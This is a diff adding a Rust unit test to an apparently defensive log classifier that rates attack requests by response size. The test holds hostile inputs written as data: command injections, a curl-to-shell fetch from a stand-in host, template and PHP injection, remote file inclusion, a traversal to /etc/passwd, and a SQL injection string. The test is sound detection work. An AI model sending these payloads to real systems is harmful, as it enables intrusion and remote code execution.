@@ -506,6 +506,29 @@ fn an_answer_much_longer_than_usual_holds_what_was_stolen() {
 }
 
 #[test]
+fn an_answer_as_long_as_usual_says_nothing_of_what_runs_unseen() {
+    let mut host = Host::new();
+    host.sees_all(0, 1, (0..9).map(|n| get("198.51.100.1", format!("/ping?ip={n}"))));
+    for value in [
+        "1;sleep+9",
+        "1;id",
+        "1;curl+http://e.example/a|sh",
+        "%7B%7B7*7%7D%7D",
+        "system('id')",
+        "http://e.example/x.php?",
+    ] {
+        let told = host.sees(20, &get(ACTOR, format!("/ping?ip={value}"))).outcome.clone().unwrap();
+        let reason = "its answer is as long as others of the path (5000 bytes), which says nothing of what runs unseen";
+        assert_eq!(told, (Outcome::Unknown, reason.to_owned()), "{value}");
+    }
+    let read = host.sees(21, &get(ACTOR, "/ping?ip=../../../../etc/passwd")).outcome.clone().unwrap();
+    assert_eq!(read, (Outcome::Failed, "its answer is as long as others of the path (5000 bytes)".to_owned()));
+    // What is read shows, whoever reads it.
+    let longer = Line { bytes: 7_000, ..get(ACTOR, "/ping?ip=1;id") };
+    assert_eq!(host.sees(22, &longer).outcome.as_ref().unwrap().0, Outcome::LikelySucceeded);
+}
+
+#[test]
 fn an_error_is_joined_with_its_request_whichever_is_read_first() {
     let attack =
         Line { status: 500, bytes: 295, ..get(ACTOR, "/sqli/?id=1%27+and+updatexml(1,concat(0x7e,user()),1)--+-") };
